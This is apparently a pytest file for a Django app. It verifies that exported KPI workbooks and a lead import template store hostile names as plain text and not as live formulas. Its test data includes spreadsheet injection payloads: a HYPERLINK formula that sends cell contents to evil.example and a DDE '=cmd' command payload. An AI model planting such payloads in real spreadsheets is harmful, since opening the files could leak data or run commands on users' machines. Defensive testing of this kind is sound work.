"""Formula injection and control characters in the workbooks we write
(issue "Hold under attack and faults", points 3 and 4).

Every workbook the product writes (the KPI workbook, a store's and a team's;
the lead import template) is generated with hostile names (formulas,
error codes, CSV-style leads, control characters already stored) and read
back: no cell of any sheet is a formula (we write none of our own), every
name is there as text, and nothing answers 500.
"""

import re
from pathlib import Path

import pytest
from django.conf import settings

from dcc.models import Store, Team, User
from kpi import export
from leads.models import Channel, VehicleModel
from tests.factories import VehicleModelFactory
from tests.kpi.conftest import at, workbook_of

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media")]

EXPORT_API = "/api/v1/kpi/export/"


TEMPLATE_URL = "/api/v1/leads/import/template/"

HOSTILE = {
    "staff": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "team": "=1+2",
    "store": "+1+2",
    "model": "=cmd|' /C calc'!A0",
    "category": "@SUM(1,2)",
    "channel": "-2+3",
    "error": "#N/A",
}
# Stored before the validator existed (written past it, as old rows were).
CONTROL = {
    "staff": "王\x01伟",
    "team": "一组\x0b\x1f",
    "model": "昂科威\x07",
}


def _formulas(book) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _texts(book) -> set[str]:
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


@pytest.fixture
def hostile(store_a, team_a1, alice, sue, mike, lead):
    """Store A's names, a model and a channel, all formulas; a lead of alice's
    in October with that model and channel."""
    Store.objects.filter(pk=store_a.pk).update(name=HOSTILE["store"])
    Team.objects.filter(pk=team_a1.pk).update(name=HOSTILE["team"])
    User.objects.filter(pk=alice.pk).update(name=HOSTILE["staff"])
    User.objects.filter(pk=sue.pk).update(name=HOSTILE["error"])
    model = VehicleModelFactory(name=HOSTILE["model"], category=HOSTILE["category"])
    channel = Channel.objects.create(code="evil", label=HOSTILE["channel"])
    alice.refresh_from_db()
    lead(alice, at(10, 5), intended_model=model, channel=channel)
    store_a.refresh_from_db()
    return store_a


def test_no_workbook_we_write_holds_a_formula(hostile, api, mike, sue):
    books = {
        "store": workbook_of(api(mike).get(EXPORT_API, {"month": "2026-10", "store": hostile.pk})),
        "team": workbook_of(api(sue).get(EXPORT_API, {"month": "2026-10", "store": hostile.pk})),
        "template": workbook_of(api(sue).get(TEMPLATE_URL)),
    }
    wanted = {
        "store": ("staff", "team", "model", "channel", "error"),
        "team": ("staff", "team", "model", "channel", "error"),
        "template": ("model", "category", "channel"),
    }
    for name, book in books.items():
        assert _formulas(book) == [], name
        texts = _texts(book)
        for key in wanted[name]:
            # Each name is there, as text, unchanged.
            assert HOSTILE[key] in texts, (name, key)
        if name != "template":
            assert any(HOSTILE["store"] in text for text in texts)  # in the titles
    # A text Excel would take for a formula when edited keeps its quote prefix.
    sheet = books["store"]["坐席明细"]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == HOSTILE["staff"])
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_names_stored_with_control_characters_still_export(
    api, mike, sue, alice, team_a1, envision, lead
):
    lead(alice, at(10, 5))
    User.objects.filter(pk=alice.pk).update(name=CONTROL["staff"])
    Team.objects.filter(pk=team_a1.pk).update(name=CONTROL["team"])
    VehicleModel.objects.filter(pk=envision.pk).update(name=CONTROL["model"])
    store = mike.store
    for user in (mike, sue):
        book = workbook_of(api(user).get(EXPORT_API, {"month": "2026-10", "store": store.pk}))
        texts = _texts(book)
        assert "王伟" in texts  # the illegal characters removed, the name kept
        assert "一组" in texts
    template = workbook_of(api(sue).get(TEMPLATE_URL))
    assert "昂科威" in _texts(template)
    # The monthly job does not skip the store either.
    assert export.generate_monthly(store, "2026-10") == "kpi-exports/A01/2026-10.xlsx"


def test_every_workbook_writer_is_covered_here():
    """A new openpyxl writer must write through dcc.xlsx and be added to
    the test above."""
    writers = set()
    for app in ("dcc", "leads", "followups", "telephony", "kpi", "desk"):
        for path in (Path(settings.BASE_DIR) / app).rglob("*.py"):
            source = path.read_text(encoding="utf-8")
            if re.search(r"from openpyxl import [^\n]*\bWorkbook\b", source):
                writers.add(path.relative_to(settings.BASE_DIR).as_posix())
                assert "xlsx.cell" in source or "xlsx.row" in source, path
    # kpi/views_campaigns.py: the campaign funnel (tests/kpi/test_h18b_campaign_funnel.py).
    assert writers == {"kpi/export.py", "kpi/views_campaigns.py", "leads/importer.py"}
